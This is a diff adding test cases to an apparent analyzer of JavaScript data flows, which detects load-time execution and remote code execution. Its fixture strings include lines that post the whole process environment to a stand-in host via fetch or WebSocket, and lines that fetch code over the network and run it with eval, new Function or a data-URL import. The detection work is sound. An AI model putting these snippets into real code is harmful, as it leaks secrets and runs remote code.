@@ -294,8 +294,29 @@ def test_configured_destination_is_none() -> None:
             "function go() { fetch('https://a.example.com', {body: JSON.stringify(process.env)}); }\nmodule.exports = go;",
             False,
         ),
+        (
+            "const ws = new WebSocket('wss://a.example.com');\nws.onopen = () => ws.send(JSON.stringify(process.env));",
+            True,
+        ),
+        (
+            "function go() { const ws = new WebSocket('wss://a.example.com'); ws.onopen = () => ws.send(JSON.stringify(process.env)); }\nmodule.exports = go;",
+            False,
+        ),
+        (
+            "module.exports.onerror = function () { fetch('https://a.example.com', {body: JSON.stringify(process.env)}); };",
+            False,
+        ),
     ],
-    ids=["top-level", "iife", "called-from-top", "callback", "exported-only"],
+    ids=[
+        "top-level",
+        "iife",
+        "called-from-top",
+        "callback",
+        "exported-only",
+        "event-handler-property",
+        "handler-set-in-uncalled-function",
+        "exported-on-name",
+    ],
 )
 def test_load_time(code: str, load: bool) -> None:
     (flow,) = flows_of(code).flows
@@ -410,8 +431,14 @@ def test_client_bindings(code: str) -> None:
         "const WebSocket = require('ws');\nconst ws = new WebSocket('wss://c.example.com');\nws.on('message', (m) => new Function('require', m.toString())(require));",
         "const axios = require('axios');\n(async () => { const r = await axios.post('https://c.example.com/a', {}); eval(r.data.model); })();",
         "(async () => { const r = await fetch('https://c.example.com/s'); eval(await r.text()); })();",
+        "fetch('https://c.example.com/m.js').then((r) => r.text()).then((code) => import('data:text/javascript,' + encodeURIComponent(code)));",
     ],
-    ids=["ws-message-to-function", "axios-response-to-eval", "fetch-text-to-eval"],
+    ids=[
+        "ws-message-to-function",
+        "axios-response-to-eval",
+        "fetch-text-to-eval",
+        "fetch-text-to-data-url-import",
+    ],
 )
 def test_code_compiled_from_network_data_is_a_remote_execution_flow(code: str) -> None:
     flows = flows_of(code).flows
@@ -423,8 +450,9 @@ def test_code_compiled_from_network_data_is_a_remote_execution_flow(code: str) -
     [
         "(async () => { const r = await fetch('https://c.example.com/s'); const cfg = JSON.parse(await r.text()); console.log(cfg); })();",
         "const axios = require('axios');\naxios.get('https://c.example.com').then(() => eval('1 + 1'));",
+        "fetch('https://c.example.com/locale').then((r) => r.text()).then((lang) => import('./locales/' + lang + '.js'));",
     ],
-    ids=["fetch-json-parsed", "constant-eval-near-a-request"],
+    ids=["fetch-json-parsed", "constant-eval-near-a-request", "module-path-chosen-by-the-server"],
 )
 def test_network_data_that_is_not_compiled_is_no_remote_execution(code: str) -> None:
     assert not [f for f in flows_of(code).flows if f.sink.executes]
